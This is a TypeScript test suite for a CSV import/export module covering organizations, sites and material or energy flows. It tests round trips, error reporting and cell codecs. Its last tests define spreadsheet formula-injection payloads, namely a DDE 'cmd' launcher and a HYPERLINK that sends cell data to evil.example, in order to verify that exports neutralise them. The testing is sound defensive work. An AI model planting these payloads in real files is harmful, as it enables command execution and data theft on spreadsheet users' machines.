import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { ZodType } from 'zod';
import { flowSchema, organizationSchema, siteSchema } from '../domain/entities.ts';
import { documentToCsv, parseExchangeCsv, type CsvFile } from './csv.ts';
import { decodeCell, encodeCell, splitList } from './csv-cells.ts';
import { CSV_COLUMNS, detectTable } from './csv-columns.ts';
import { readCsvRows } from './csv-read.ts';
import { parseExchangeJson, type ExchangeDocument, type ImportProblem } from './document.ts';
import { loadDemoPortfolio } from './demo.ts';
import { BRIEF_EXAMPLE_FILLED, everyKeyDocument } from './test-fixtures.ts';

const files = (csv: Record<string, string>): CsvFile[] => Object.entries(csv).map(([table, text]) => ({ name: `${table}.csv`, text }));
const problemsOf = (result: ReturnType<typeof parseExchangeCsv>): ImportProblem[] => {
  assert.equal(result.ok, false, 'expected the import to fail');
  return result.ok ? [] : result.problems;
};
const example = (): ExchangeDocument => {
  const r = parseExchangeJson(BRIEF_EXAMPLE_FILLED, 'x.json');
  assert.ok(r.ok);
  return r.doc;
};

/** Leaf paths of a zod object schema (arrays are leaves), to check the CSV columns cover the schemas. */
function leafPaths(schema: ZodType, prefix = ''): string[] {
  const def = (schema as unknown as { _zod: { def: { type: string; innerType?: ZodType; shape?: Record<string, ZodType> } } })._zod.def;
  if (def.type === 'optional' && def.innerType) return leafPaths(def.innerType, prefix);
  if (def.type === 'object' && def.shape) {
    return Object.entries(def.shape).flatMap(([key, s]) => leafPaths(s, prefix ? `${prefix}.${key}` : key));
  }
  return [prefix];
}

test('the CSV columns are exactly the leaf keys of the entity schemas', () => {
  assert.deepEqual(CSV_COLUMNS.organizations.map((c) => c.name).sort(), leafPaths(organizationSchema).sort());
  assert.deepEqual(CSV_COLUMNS.sites.map((c) => c.name).sort(), leafPaths(siteSchema).sort());
  assert.deepEqual(CSV_COLUMNS.flows.map((c) => c.name).sort(), leafPaths(flowSchema).sort());
});

test('CSV export then import gives the same document (demo portfolio, every key, brief example)', () => {
  for (const doc of [loadDemoPortfolio(), everyKeyDocument(), example()]) {
    const result = parseExchangeCsv(files(documentToCsv(doc)));
    assert.ok(result.ok, JSON.stringify(!result.ok && result.problems.slice(0, 3)));
    assert.deepEqual(result.doc, doc);
  }
});

test('export writes a header row, CRLF line ends and RFC 4180 quoting', () => {
  const csv = documentToCsv(everyKeyDocument());
  const header = csv.flows.split('\r\n')[0]!;
  assert.ok(header.startsWith('id,site_id,direction,type,name,description,quantity.amount,quantity.unit,'));
  assert.ok(csv.organizations.includes('"Everything GmbH, ""quoted"", with; semicolons"'));
  assert.ok(csv.organizations.includes('ISO 14001;odd\\;cert\\\\name'));
  assert.ok(csv.flows.includes('mon-fri 6-22; sat,sun 8-12'));
  assert.ok(csv.flows.includes(',1;2;12,'));
});

test('the table is found from the header, the file name only breaking ties', () => {
  assert.equal(detectTable(['id', 'organization_id', 'name', 'country', 'lat', 'lon'], 'export.csv'), 'sites');
  assert.equal(detectTable(['id', 'site_id', 'direction'], 'organizations.csv'), 'flows');
  assert.equal(detectTable(['id', 'name'], 'data.csv'), undefined);
  assert.equal(detectTable(['id', 'name'], 'Organisations 2024.csv'), 'organizations');
  assert.equal(detectTable(['id', 'name'], 'my-sites.csv'), 'sites');
  const csv = documentToCsv(example());
  const renamed = [
    { name: 'a.csv', text: csv.flows },
    { name: 'b.csv', text: csv.sites },
    { name: 'c.csv', text: csv.organizations },
  ];
  assert.equal(parseExchangeCsv(renamed).ok, true);
});

test('an empty cell is an absent key, and blank-only optional objects disappear', () => {
  const text = 'id,site_id,direction,type,name,quantity.amount,quantity.unit,quality.temperature_c.min,quality.temperature_c.max,temporal.months\r\n' +
    'f1,site-1,supply,heat,Exhaust,500,kW,, ,\r\n';
  const csv = documentToCsv(example());
  const result = parseExchangeCsv([...files({ organizations: csv.organizations, sites: csv.sites }), { name: 'flows.csv', text }]);
  assert.ok(result.ok, JSON.stringify(!result.ok && result.problems));
  assert.deepEqual(result.doc.flows[0], { id: 'f1', site_id: 'site-1', direction: 'supply', type: 'heat', name: 'Exhaust', quantity: { amount: 500, unit: 'kW' } });
});

test('malformed numbers are reported with line and column, every bad row at once', () => {
  const header = 'id,site_id,direction,type,name,quantity.amount,quantity.unit,quality.temperature_c.min';
  const text = [header, 'f1,site-1,supply,heat,A,"12,5",kW,80', 'f2,site-1,supply,heat,B,500,kW,abc', 'f3,site-1,supply,heat,C,1 000,kW,', 'f4,site-1,supply,heat,D,7,kW,60'].join('\n');
  const csv = documentToCsv(example());
  const problems = problemsOf(parseExchangeCsv([...files({ organizations: csv.organizations, sites: csv.sites }), { name: 'flows.csv', text }]));
  assert.deepEqual(problems, [
    { file: 'flows.csv', line: 2, record: 'f1', column: 6, field: 'quantity.amount', reason: '"12,5" is not a number (use a dot as the decimal separator)' },
    { file: 'flows.csv', line: 3, record: 'f2', column: 8, field: 'quality.temperature_c.min', reason: '"abc" is not a number' },
    { file: 'flows.csv', line: 4, record: 'f3', column: 6, field: 'quantity.amount', reason: '"1 000" is not a number (no thousands separators)' },
  ]);
});

test('three rows breaking the schema give three problems with their lines', () => {
  const text = [
    'id,organization_id,name,country,lat,lon,kind',
    's1,org-1,Mill,DE,51.2,6.7,plant',
    's2,org-1,North,de,51.2,6.7,plant',
    's3,org-1,East,DE,95,6.7,plant',
    's4,org-1,South,DE,51.2,6.7,factory',
  ].join('\r\n');
  const csv = documentToCsv(example());
  const problems = problemsOf(parseExchangeCsv([{ name: 'organizations.csv', text: csv.organizations }, { name: 'sites.csv', text }]));
  assert.deepEqual(
    problems.map((p) => [p.file, p.line, p.record, p.field, p.column]),
    [
      ['sites.csv', 3, 's2', 'country', 4],
      ['sites.csv', 4, 's3', 'lat', 5],
      ['sites.csv', 5, 's4', 'kind', 7],
    ],
  );
});

test('unknown columns are rejected by name, with a suggestion', () => {
  const text = 'id,name,colour,temperature_c.min\nx,Acme,red,\n';
  assert.deepEqual(problemsOf(parseExchangeCsv([{ name: 'organizations.csv', text }])), [
    { file: 'organizations.csv', line: 1, column: 3, field: 'colour', reason: 'unknown column "colour" for the organizations table' },
    { file: 'organizations.csv', line: 1, column: 4, field: 'temperature_c.min', reason: 'unknown column "temperature_c.min" for the organizations table' },
  ]);
  const flows = 'id,site_id,direction,type,name,quantity.amount,quantity.unit,temperature_c.min\n';
  assert.match(problemsOf(parseExchangeCsv([{ name: 'flows.csv', text: flows }]))[0]!.reason, /did you mean "quality.temperature_c.min"/);
});

test('header problems: missing required columns, duplicates, no header at all', () => {
  assert.deepEqual(problemsOf(parseExchangeCsv([{ name: 'sites.csv', text: 'id,organization_id,name,lat,lon\n' }])), [
    { file: 'sites.csv', line: 1, field: 'country', reason: 'the sites table needs a "country" column' },
  ]);
  assert.equal(problemsOf(parseExchangeCsv([{ name: 'organizations.csv', text: 'id,name,name\n' }]))[0]!.reason, 'column "name" appears twice in the header');
  assert.equal(problemsOf(parseExchangeCsv([{ name: 'organizations.csv', text: '' }]))[0]!.reason, 'the file is empty: a header row with the column names is required');
  assert.match(problemsOf(parseExchangeCsv([{ name: 'data.csv', text: 'a,b\n1,2\n' }]))[0]!.reason, /cannot tell which table/);
});

test('rows with the wrong number of cells, broken quotes and multi-line cells keep their line numbers', () => {
  const text = 'id,name,notes\r\na,Alpha,"two\r\nlines"\r\nb,Beta\r\nc,Gamma,x,\r\nd,Delta,x,y\r\n';
  assert.deepEqual(
    problemsOf(parseExchangeCsv([{ name: 'organizations.csv', text }])).map((p) => [p.line, p.record, p.reason]),
    [
      [4, 'b', 'the row has 2 cells but the header has 3 columns'],
      [6, 'd', 'the row has 4 cells but the header has 3 columns'],
    ],
  );
  const broken = 'id,name,notes\na,Alpha,ok\nb,"Beta,x\nc,Gamma,y\n';
  assert.deepEqual(problemsOf(parseExchangeCsv([{ name: 'organizations.csv', text: broken }])), [
    { file: 'organizations.csv', line: 3, reason: 'CSV syntax error: a quoted cell is never closed (a missing ")' },
  ]);
});

test('duplicate ids and dangling references are placed on their CSV lines', () => {
  const orgs = 'id,name\no1,A\no1,B\n';
  const sites = 'id,organization_id,name,country,lat,lon\ns1,o1,S,DE,51,7\ns2,o9,T,DE,51,7\n';
  assert.deepEqual(problemsOf(parseExchangeCsv([{ name: 'organizations.csv', text: orgs }, { name: 'sites.csv', text: sites }])), [
    { file: 'organizations.csv', line: 3, column: 1, record: 'o1', field: 'id', reason: 'duplicate id "o1" (first used on line 2)' },
    { file: 'sites.csv', line: 3, column: 2, record: 's2', field: 'organization_id', reason: 'refers to organization "o9", which is not in this import' },
  ]);
  const known = { organizationIds: new Set(['o9']), siteIds: new Set<string>() };
  assert.equal(parseExchangeCsv([{ name: 'sites.csv', text: sites }], { ...known, organizationIds: new Set(['o1', 'o9']) }).ok, true);
});

test('a table given twice is an error', () => {
  const text = 'id,name\no1,A\n';
  assert.match(
    problemsOf(parseExchangeCsv([{ name: 'organizations.csv', text }, { name: 'more-organizations.csv', text: 'id,name\no2,B\n' }]))[0]!.reason,
    /a second file with the organizations table \(the first is organizations.csv\)/,
  );
});

test('cell codecs: lists, booleans, weekly text', () => {
  assert.deepEqual(splitList('a; b\\;c ;d\\\\'), ['a', 'b;c', 'd\\']);
  assert.deepEqual(decodeCell('weekly', 'Mon-Fri 6-22; sat 8 - 12'), {
    ok: true,
    value: [
      { days: 'mon-fri', from: 6, to: 22 },
      { days: 'sat', from: 8, to: 12 },
    ],
  });
  assert.deepEqual(decodeCell('weekly', 'weekdays'), { ok: false, reason: '"weekdays" is not a weekly interval like "mon-fri 6-22" (intervals are separated by ;)' });
  assert.deepEqual(decodeCell('boolean', 'TRUE'), { ok: true, value: true });
  assert.equal(decodeCell('boolean', 'yes').ok, false);
  assert.deepEqual(decodeCell('numbers', '1;2;3'), { ok: true, value: [1, 2, 3] });
  assert.equal(decodeCell('numbers', '1,2,3').ok, false);
  assert.equal(decodeCell('list', 'a;;b').ok, false);
  assert.equal(encodeCell('number', 1e21, 'x'), '1e+21');
  assert.deepEqual(decodeCell('number', '1e+21'), { ok: true, value: 1e21 });
  assert.throws(() => encodeCell('number', Number.NaN, 'x'));
});

test('a record key without a column fails the export loudly instead of being dropped', () => {
  const doc = example();
  (doc.organizations[0] as Record<string, unknown>).extra = 'x';
  assert.throws(() => documentToCsv(doc), /no column for "extra"/);
});

test('temporal.profile, economics.current_fuel, recovery operations and waste status in CSV: round trip, and an unknown profile named with its line and column', () => {
  const csv = documentToCsv(everyKeyDocument());
  const header = csv.flows.split('\r\n')[0]!.split(',');
  for (const name of ['temporal.profile', 'economics.current_fuel', 'quality.recovery_operations', 'quality.waste_status']) assert.ok(header.includes(name), name);
  assert.ok(csv.flows.includes(',R2;R13,waste,'), 'recovery operations as a ; list');
  assert.ok(csv.flows.includes(',hotmaps:industry:chemicals_and_petrochemicals:DE,'));
  const text = [
    'id,site_id,direction,type,name,quantity.amount,quantity.unit,temporal.profile,economics.current_fuel,quality.recovery_operations,quality.waste_status',
    'f1,site-1,demand,heat,Network,60,GWh/yr,hotmaps:residential:DEA2,natural_gas,,',
    'f2,site-1,demand,heat,Pool,500,kW,hotmaps:residential:XX99,,,',
    'f3,site-1,supply,waste,Sludge,900,t/yr,,,R3; R10,by_product',
  ].join('\r\n');
  const base = documentToCsv(example());
  const problems = problemsOf(parseExchangeCsv([...files({ organizations: base.organizations, sites: base.sites }), { name: 'flows.csv', text }]));
  assert.deepEqual(problems, [
    {
      file: 'flows.csv',
      line: 3,
      record: 'f2',
      column: 8,
      field: 'temporal.profile',
      reason: '"hotmaps:residential:XX99" is not a known profile: use flat, measured, hotmaps:residential:<NUTS2 region> or hotmaps:industry:<process>:<country>',
    },
  ]);
  const fixed = text.replace('XX99', 'DEA1');
  const result = parseExchangeCsv([...files({ organizations: base.organizations, sites: base.sites }), { name: 'flows.csv', text: fixed }]);
  assert.ok(result.ok, JSON.stringify(!result.ok && result.problems));
  assert.deepEqual(result.doc.flows.map((f) => [f.temporal?.profile, f.economics?.current_fuel, f.quality?.recovery_operations, f.quality?.waste_status]), [
    ['hotmaps:residential:DEA2', 'natural_gas', undefined, undefined],
    ['hotmaps:residential:DEA1', undefined, undefined, undefined],
    [undefined, undefined, ['R3', 'R10'], 'by_product'],
  ]);
  const back = parseExchangeCsv(files(documentToCsv(result.doc)));
  assert.ok(back.ok);
  assert.deepEqual(back.doc, result.doc);
});

/**
 * Names as another member could sync them: each would run as a formula in a spreadsheet. (A leading
 * tab or carriage return is trimmed by the entity schema; csv-write.test.ts covers those.)
 */
const FORMULAS = ["=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', "'=already quoted", "''@twice", "'plain quote"];

test('formula injection: text that a spreadsheet would run is written with a leading quote, and reads back as it was', () => {
  const doc = everyKeyDocument();
  const base = doc.organizations[0]!;
  doc.organizations = FORMULAS.map((name, i) => ({ ...base, id: `o-${i}`, name, certifications: [name.trim() || 'x', 'ok'] }));
  doc.sites = doc.sites.map((s) => ({ ...s, organization_id: 'o-0' }));
  const csv = documentToCsv(doc);
  // What a spreadsheet reads: no cell starts with a formula character (negative numbers aside).
  for (const row of readCsvRows(csv.organizations, ',')) {
    for (const cell of row.cells) assert.doesNotMatch(cell, /^[=+@\t\r]|^-(?![\d.])/, `unguarded cell ${JSON.stringify(cell)} on line ${row.line}`);
  }
  assert.ok(csv.organizations.includes(",'=cmd|' /C calc'!A0,"), csv.organizations);
  assert.ok(csv.organizations.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`));
  assert.ok(csv.organizations.includes(",''=already quoted,"), 'a quote before a formula character gets one more');
  assert.ok(csv.organizations.includes(",'plain quote,"), 'a quote before anything else is left as it is');
  // Negative numbers stay numbers: a site's longitude west of Greenwich.
  doc.sites = doc.sites.map((s) => ({ ...s, lon: -12.5 }));
  const withWest = documentToCsv(doc);
  assert.ok(withWest.sites.includes(',-12.5,'), withWest.sites);

  const result = parseExchangeCsv(files(withWest));
  assert.ok(result.ok, JSON.stringify(!result.ok && result.problems.slice(0, 3)));
  assert.deepEqual(result.doc, doc);
});

test('a guard a spreadsheet user typed (\'=x) is removed on import; other leading quotes are kept', () => {
  const header = 'id,name';
  const result = parseExchangeCsv([{ name: 'organizations.csv', text: `${header}\r\no-1,'=SUM(A1)\r\no-2,'Quoted\r\no-3,'-12.5\r\n` }]);
  assert.ok(result.ok, JSON.stringify(!result.ok && result.problems));
  assert.deepEqual(
    result.doc.organizations.map((o) => o.name),
    ['=SUM(A1)', "'Quoted", '-12.5'],
  );
});
